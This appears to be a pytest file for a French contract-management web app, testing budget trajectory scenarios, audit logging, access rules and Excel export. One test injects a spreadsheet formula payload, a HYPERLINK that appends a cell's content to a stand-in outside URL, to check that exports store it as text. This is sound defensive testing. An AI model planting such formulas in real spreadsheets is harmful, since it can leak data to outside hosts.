"""Trajectory scenarios through the screens: saving, bad rates that save nothing, measures from the fiches, the
comparison, the charts, the Excel workbook, who may do what."""

from decimal import Decimal as D
from io import BytesIO

import pytest
from openpyxl import load_workbook

import factories
from cpom.audit.models import AuditEntry
from cpom.finance.models import NewMeasure, ReferenceBudget, Scenario
from cpom.finance.trajectory import services as scenarios
from cpom.objectives.models import Level, ObjectiveSheet
from support import assert_stale


def euros(text: str) -> str:
    """An amount as the pages write it: « 1 880 000,00 € » with non-breaking spaces (and « − », the minus sign)."""
    return text.replace(" ", "\xa0") + "\xa0€"


@pytest.fixture
def budget(association_contract):
    """The association's reference budget rebuilt for the tests: the IME and the MAS of the pure core's worked example."""
    return factories.worked_example_budget(association_contract)


def _post(**overrides) -> dict:
    """The worked example's assumptions as a person types them."""
    data = {
        "name": "Taux régional",
        "convergence_target": "47 000",
        "convergence_years": "3",
        "surplus_rule": "reserves",
        "deficit_rule": "reserve",
        "opening_reserves": "10 000,00",
        "read_as": "",
        "envelope_rate_0": "1",
        "envelope_rate_1": "0",
        "envelope_rate_2": "",
        "envelope_rate_3": "0,5",
        "envelope_rate_4": "",
        "expense_rate_0": "1",
        "expense_rate_1": "0.5",
        "expense_rate_2": "",
        "expense_rate_3": "2",
        "expense_rate_4": "",
    }
    data.update(overrides)
    return data


def _base(contract) -> str:
    return f"/contrats/{contract.pk}/moyens/trajectoire/"


@pytest.fixture
def worked(budget, users):
    """The worked example saved as a scenario, with its measure at the IME from N+2."""
    scenario = scenarios.save_scenario(
        budget,
        users["asso"],
        {
            "name": "Taux régional",
            "envelope_rates": {0: D("1"), 1: D("0"), 3: D("0.5")},
            "expense_rates": {0: D("1"), 1: D("0.5"), 3: D("2")},
            "convergence_target": D("47000"),
            "convergence_years": 3,
            "surplus_rule": "reserves",
            "deficit_rule": "reserve",
            "opening_reserves": D("10000"),
        },
    )
    ime = budget.contract.establishments.get(category="IME")
    scenarios.add_measure(
        scenario,
        users["asso"],
        {
            "establishment": ime,
            "label": "Chargé de parcours",
            "start_year": 2,
            "managing_body_means": D("6000"),
            "authority_means": D("9000"),
        },
    )
    return scenario


def test_a_scenario_typed_the_french_way_is_saved_and_simulated(client_for, budget):
    response = client_for("asso").post(f"{_base(budget.contract)}nouveau/", _post(), follow=True)
    scenario = Scenario.objects.get(budget=budget)
    assert scenario.envelope_rates == {"0": "1", "1": "0", "3": "0.5"}
    assert scenario.expense_rates == {"0": "1", "1": "0.5", "3": "2"}
    assert scenario.convergence_target == D("47000") and scenario.opening_reserves == D("10000")
    body = response.content.decode()
    assert "Le scénario « Taux régional » est enregistré." in body
    # The MAS converges onto 47 000 × 40 places in N+2; the contract's reserves reach 116 554,99 in N+1 (see test_trajectory).
    assert euros("1 880 000,00") in body and euros("−46 666,67") in body
    assert euros("116 554,99") in body
    assert 'data-testid="money-chart"' in body and 'data-testid="reserves-chart"' in body
    assert body.count("<polyline") == 2 and body.count("<rect") == 5
    assert AuditEntry.objects.filter(
        object_type="finance.scenario", object_id=str(scenario.pk), action="Scénario créé"
    ).exists()


@pytest.mark.parametrize(
    "typed, message",
    [
        ("12", "Un taux d&#x27;évolution est compris entre −10\xa0% et +10\xa0% : 12\xa0% est hors limites."),
        ("-10,5", "Un taux d&#x27;évolution est compris entre −10\xa0% et +10\xa0% : −10,5\xa0% est hors limites."),
        ("un peu", "Taux des dépenses N+2 : « un peu » n&#x27;est pas un taux : écrivez par exemple 1,2 ou −0,5."),
    ],
)
def test_a_bad_rate_says_why_in_french_and_saves_nothing(client_for, budget, typed, message):
    journal = AuditEntry.objects.filter(object_type="finance.scenario").count()
    response = client_for("asso").post(f"{_base(budget.contract)}nouveau/", _post(expense_rate_2=typed))
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Scenario.objects.filter(budget=budget).exists()
    assert AuditEntry.objects.filter(object_type="finance.scenario").count() == journal


def test_an_authority_edits_and_the_change_is_audited(client_for, worked):
    url = f"{_base(worked.budget.contract)}{worked.pk}/modifier/"
    client = client_for("cd44")
    form = client.get(url).context["form"]
    client.post(url, _post(name="Taux régional", envelope_rate_0="1.2", read_as=form.initial["read_as"]))
    worked.refresh_from_db()
    assert worked.envelope_rates["0"] == "1.2"
    entry = AuditEntry.objects.get(object_type="finance.scenario", object_id=str(worked.pk), action="Scénario modifié")
    assert entry.organisation_label == "Conseil départemental de Loire-Atlantique"
    assert entry.before["Taux de l'enveloppe"] == "N : 1\xa0% ; N+1 : 0\xa0% ; N+3 : 0,5\xa0%"
    assert entry.after["Taux de l'enveloppe"] == "N : 1,2\xa0% ; N+1 : 0\xa0% ; N+3 : 0,5\xa0%"


def test_an_edit_over_someone_elses_change_is_refused(client_for, worked):
    url = f"{_base(worked.budget.contract)}{worked.pk}/modifier/"
    stale = client_for("ars").get(url).context["form"].initial["read_as"]
    client_for("asso").post(url, _post(opening_reserves="20 000", read_as=stale))
    response = client_for("ars").post(url, _post(opening_reserves="99 000", read_as=stale))
    assert_stale(response)
    worked.refresh_from_db()
    assert worked.opening_reserves == D("20000")


def test_the_scenarios_compare_side_by_side(client_for, worked, budget, users):
    scenarios.save_scenario(
        budget,
        users["ars"],
        {
            "name": "Taux zéro",
            "envelope_rates": {0: D("0")},
            "expense_rates": {},
            "convergence_target": None,
            "convergence_years": 3,
            "surplus_rule": "investment",
            "deficit_rule": "carry_forward",
            "opening_reserves": D("0"),
        },
    )
    body = client_for("cd44").get(_base(budget.contract)).content.decode()
    assert "Taux régional" in body and "Taux zéro" in body
    # At zero rates the envelope stays 960 000 + 2 000 000 every year: 14 800 000 over five years.
    assert euros("2 960 000,00") in body and euros("14 800 000,00") in body
    # Worked example: 14 457 950,46 of envelope over the contract.
    assert euros("14 457 950,46") in body
    chart = body[body.index('data-testid="envelope-comparison"') :]
    assert chart.count("<polyline") == 2


def test_new_measures_are_imported_from_the_agreed_fiches(client_for, budget, users, ready_association_contract):
    contract = budget.contract
    operational = contract.objectives.get(level=Level.OPERATIONAL)  # agreed by every party, due in N+2
    ime, mas = contract.establishments.get(category="IME"), contract.establishments.get(category="MAS")
    operational.establishments.set([ime, mas])
    ObjectiveSheet.objects.filter(objective=operational).update(
        managing_body_means=D("12000.01"), authority_means=D("18000")
    )
    scenario = scenarios.save_scenario(
        budget,
        users["asso"],
        {
            "name": "Avec mesures",
            "envelope_rates": {},
            "expense_rates": {},
            "convergence_target": None,
            "convergence_years": 3,
            "surplus_rule": "reserves",
            "deficit_rule": "reserve",
            "opening_reserves": D("0"),
        },
    )
    NewMeasure.objects.create(
        scenario=scenario, establishment=mas, label="Saisie à la main", start_year=0, authority_means=D("100")
    )
    client = client_for("ars")
    for _ in range(2):  # importing again replaces what was imported, and keeps what was typed
        response = client.post(f"{_base(contract)}{scenario.pk}/mesures/importer/", follow=True)
    assert "Mesures importées des fiches objectifs : 2 mesures pour 1 objectif." in response.content.decode()
    imported = scenario.measures.filter(objective=operational).order_by("establishment__name")
    # 12 000,01 split in two: 6 000,01 for the first establishment, 6 000,00 for the last; 18 000 in 9 000 and 9 000.
    assert [(m.establishment, m.start_year, m.managing_body_means, m.authority_means) for m in imported] == [
        (ime, 2, D("6000.01"), D("9000.00")),
        (mas, 2, D("6000.00"), D("9000.00")),
    ]
    assert scenario.measures.filter(objective=None).count() == 1
    assert euros("30 100,01") in response.content.decode()


def test_a_fiche_naming_no_establishment_is_spread_over_the_perimeter(budget, users, ready_association_contract):
    contract = budget.contract
    operational = contract.objectives.get(level=Level.OPERATIONAL)
    operational.establishments.clear()
    type(operational).objects.filter(pk=operational.pk).update(due_year=None)
    ObjectiveSheet.objects.filter(objective=operational).update(managing_body_means=None, authority_means=D("700"))
    scenario = scenarios.save_scenario(
        budget,
        users["cd44"],
        {
            "name": "Périmètre",
            "envelope_rates": {},
            "expense_rates": {},
            "convergence_target": None,
            "convergence_years": 3,
            "surplus_rule": "reserves",
            "deficit_rule": "reserve",
            "opening_reserves": D("0"),
        },
    )
    imported = scenarios.import_measures(scenario, users["cd44"])
    # Seven establishments, 100 € each from N (no due year); the establishments without budget lines join the simulation.
    assert (
        sorted((m.start_year, m.managing_body_means, m.authority_means) for m in imported)
        == [(0, D("0"), D("100.00"))] * 7
    )
    assert len(scenarios.run(scenario).trajectory.establishments) == 7


def test_a_measure_is_added_and_withdrawn_through_the_page(client_for, worked):
    url = f"{_base(worked.budget.contract)}{worked.pk}/mesures/"
    mas = worked.budget.contract.establishments.get(category="MAS")
    client = client_for("asso")
    client.post(
        url,
        {
            "establishment": mas.pk,
            "label": "Astreinte de nuit",
            "start_year": 1,
            "managing_body_means": "12 500,50",
            "authority_means": "0",
        },
    )
    measure = worked.measures.get(label="Astreinte de nuit")
    assert measure.managing_body_means == D("12500.50") and measure.start_year == 1
    response = client.post(f"{url}retirer/", {"mesure": measure.pk}, follow=True)
    assert "La mesure est retirée du scénario." in response.content.decode()
    assert not worked.measures.filter(label="Astreinte de nuit").exists()
    actions = set(
        AuditEntry.objects.filter(object_id=str(worked.pk), object_type="finance.scenario").values_list(
            "action", flat=True
        )
    )
    assert {"Mesure nouvelle ajoutée : Astreinte de nuit", "Mesure nouvelle retirée : Astreinte de nuit"} <= actions


def test_the_workbook_holds_real_numbers_in_euros(client_for, worked):
    response = client_for("asso").get(f"{_base(worked.budget.contract)}trajectoire.xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="trajectoire-CPOM-PDL-2027-044-01.xlsx"'
    workbook = load_workbook(BytesIO(response.content))
    assert workbook.sheetnames == ["Comparaison", "Taux régional"]
    comparison = workbook["Comparaison"]
    assert [c.value for c in comparison[1]] == ["Grandeur", "Année", "Taux régional"]
    assert comparison.freeze_panes == "C2"
    assert [c.value for c in comparison[2]] == ["Enveloppe", "2027 (N)", pytest.approx(969600 + 1973333.33)]
    sheet = workbook["Taux régional"]
    assert [c.value for c in sheet[1]][:4] == ["Établissement", "FINESS", "Année", "Enveloppe (€)"]
    assert sheet.freeze_panes == "D2"
    rows = {(r[0].value, r[2].value): r for r in sheet.iter_rows(min_row=2) if r[0].value}
    mas = rows[("MAS Les Hauts de Sèvre", "2029 (N+2)")]
    assert D(str(mas[3].value)) == D("1880000") and D(str(mas[4].value)) == D("-46666.66")
    assert mas[3].number_format == '#,##0.00 "€"'
    total = rows[("Ensemble du contrat", "Total du contrat")]
    assert D(str(total[3].value)) == D("14457950.46") and D(str(total[9].value)) == D("-164375.38")
    reserves = [r for r in sheet.iter_rows(min_row=2) if r[0].value == "2028 (N+1)" and r[8].value is not None]
    assert D(str(reserves[0][8].value)) == D("116554.99")


@pytest.mark.parametrize("username", ["ehpad", "cd49"])
def test_outsiders_get_404(client_for, worked, username):
    client = client_for(username)
    base = _base(worked.budget.contract)
    for url in ("", "nouveau/", "trajectoire.xlsx", f"{worked.pk}/", f"{worked.pk}/modifier/", f"{worked.pk}/mesures/"):
        assert client.get(f"{base}{url}").status_code == 404, url
    assert client.post(f"{base}{worked.pk}/supprimer/").status_code == 404
    assert Scenario.objects.filter(pk=worked.pk).exists()


def test_the_platform_team_reads_but_does_not_write(client_for, worked):
    client = client_for("admin")
    base = _base(worked.budget.contract)
    page = client.get(f"{base}{worked.pk}/").content.decode()
    assert worked.name in page and "Supprimer" not in page
    assert client.get(f"{base}nouveau/").status_code == 403
    assert client.post(f"{base}{worked.pk}/supprimer/").status_code == 403
    assert type(worked).objects.filter(pk=worked.pk).exists()


def test_a_signed_contract_has_its_scenarios_frozen(client_for, ehpad_contract):
    budget = ReferenceBudget.objects.get(contract=ehpad_contract)
    page = client_for("ehpad").get(_base(ehpad_contract)).content.decode()
    assert "Nouveau scénario" not in page
    assert client_for("ehpad").post(f"{_base(ehpad_contract)}nouveau/", _post()).status_code == 403
    assert [s.name for s in budget.scenarios.all()] == ["Scénario retenu"]


def test_without_a_reference_budget_the_page_says_so(client_for, association_contract):
    ReferenceBudget.objects.filter(contract=association_contract).delete()
    client = client_for("asso")
    assert "Pas encore de budget de référence" in client.get(_base(association_contract)).content.decode()
    response = client.get(f"{_base(association_contract)}nouveau/", follow=True)
    assert "Le budget de référence du contrat n&#x27;est pas encore établi" in response.content.decode()


@pytest.fixture
def ready_for_signature(worked, ready_association_contract, users):
    """The worked scenario, then the contract declared ready for signature by the lead."""
    from cpom.contracts import lifecycle
    from cpom.contracts.models import State
    from cpom.finance.trajectory import services

    services.retain_scenario(worked, users["asso"], services.fingerprint(worked))
    lifecycle.transition(ready_association_contract, State.READY_FOR_SIGNATURE, users["ars"])
    worked.refresh_from_db()
    return worked


FROZEN = (
    "Le contrat est à l'état « Prêt pour signature » : les scénarios de trajectoire ne se modifient que pendant "
    "le lancement, le diagnostic partagé et la négociation du contrat."
)


def test_scenarios_are_frozen_once_the_contract_is_ready_for_signature(users, ready_for_signature):
    scenario = ready_for_signature
    data = {
        "name": "Autre nom",
        "envelope_rates": {0: D("2")},
        "expense_rates": {0: D("1")},
        "convergence_target": D("47000"),
        "convergence_years": 3,
        "surplus_rule": "reserves",
        "deficit_rule": "reserve",
        "opening_reserves": D("0"),
    }
    for write in (
        lambda: scenarios.save_scenario(
            scenario.budget, users["asso"], data, scenario, scenarios.fingerprint(scenario)
        ),
        lambda: scenarios.save_scenario(scenario.budget, users["ars"], {**data, "name": "Nouveau"}),
        lambda: scenarios.delete_scenario(scenario, users["asso"]),
        lambda: scenarios.remove_measure(scenario, users["asso"], scenario.measures.get().pk),
    ):
        with pytest.raises(scenarios.ScenarioRefused) as refused:
            write()
        assert str(refused.value) == FROZEN
    scenario.refresh_from_db()
    assert (
        scenario.name == "Taux régional" and scenario.measures.count() == 1 and scenario.budget.scenarios.count() == 1
    )


def test_the_scenario_pages_say_it_is_frozen_and_refuse_the_edit(client_for, ready_for_signature):
    scenario = ready_for_signature
    client = client_for("asso")
    base = _base(scenario.budget.contract)
    response = client.post(
        f"{base}{scenario.pk}/modifier/", _post(name="Autre nom", read_as=scenarios.fingerprint(scenario))
    )
    assert response.status_code == 403 and FROZEN.replace("'", "&#x27;") in response.content.decode()
    assert client.get(f"{base}nouveau/").status_code == 403
    notice = (
        "Contrat à l'état « Prêt pour signature » : les scénarios sont figés. Ils ne se modifient que pendant le "
        "lancement, le diagnostic partagé et la négociation ; rouvrir la négociation permet de les reprendre."
    )
    detail = client.get(f"{base}{scenario.pk}/").content.decode()
    assert "Modifier les hypothèses" not in detail and notice in detail
    listing = client.get(base).content.decode()
    assert "Nouveau scénario" not in listing and notice in listing
    scenario.refresh_from_db()
    assert scenario.name == "Taux régional"


def test_budget_objectives_diagnostic_and_scenarios_are_open_in_the_same_states(users, association_contract):
    """One definition of the states in which the contract's content is open for editing serves all four."""
    from cpom.contracts.models import State
    from cpom.diagnostic import rules as diagnostic
    from cpom.finance import rules
    from cpom.objectives import negotiation

    objective = (
        association_contract.objectives.filter(status="under_discussion").first()
        or association_contract.objectives.first()
    )
    for state in State.values:
        association_contract.state = state
        open_for = {
            "budget": rules.lines_refusal(users["asso"], association_contract) is None,
            "objectifs": negotiation.refusal(objective, users["asso"], "comment") is None,
            "diagnostic": diagnostic.may_contribute(users["asso"], association_contract),
            "scénarios": rules.scenario_refusal(users["asso"], association_contract) is None,
        }
        assert len(set(open_for.values())) == 1, (state, open_for)
        assert open_for["budget"] == association_contract.is_open, state


def _formulas(workbook) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


HYPERLINK = '=HYPERLINK("http://exemple.fr/?"&A1,"Cliquez ici")'


def test_what_people_typed_is_written_as_text_never_as_a_formula(client_for, worked):
    contract = worked.budget.contract
    Scenario.objects.filter(pk=worked.pk).update(name=HYPERLINK)
    type(contract).objects.filter(pk=contract.pk).update(reference="=2+3")
    mas = contract.establishments.get(category="MAS")
    type(mas).objects.filter(pk=mas.pk).update(name="+33 MAS Les Hauts")
    response = client_for("asso").get(f"{_base(contract)}trajectoire.xlsx")
    workbook = load_workbook(BytesIO(response.content))
    assert _formulas(workbook) == []
    comparison = workbook["Comparaison"]
    assert (comparison["C1"].value, comparison["C1"].data_type, comparison["C1"].quotePrefix) == (HYPERLINK, "s", True)
    footer = next(c for row in comparison.iter_rows() for c in row if str(c.value).startswith("=2+3"))
    assert footer.value == "=2+3 – Association Les Chemins de Loire" and footer.data_type == "s"
    sheet = workbook[workbook.sheetnames[1]]
    names = {r[0].value for r in sheet.iter_rows(min_row=2) if r[0].data_type == "s"}
    assert "+33 MAS Les Hauts" in names


def test_a_scenario_name_with_a_backspace_still_exports(client_for, worked):
    Scenario.objects.filter(pk=worked.pk).update(name="Taux\x08 régional")
    response = client_for("asso").get(f"{_base(worked.budget.contract)}trajectoire.xlsx")
    workbook = load_workbook(BytesIO(response.content))
    assert workbook.sheetnames == ["Comparaison", "Taux régional"]
    assert workbook["Comparaison"]["C1"].value == "Taux régional"
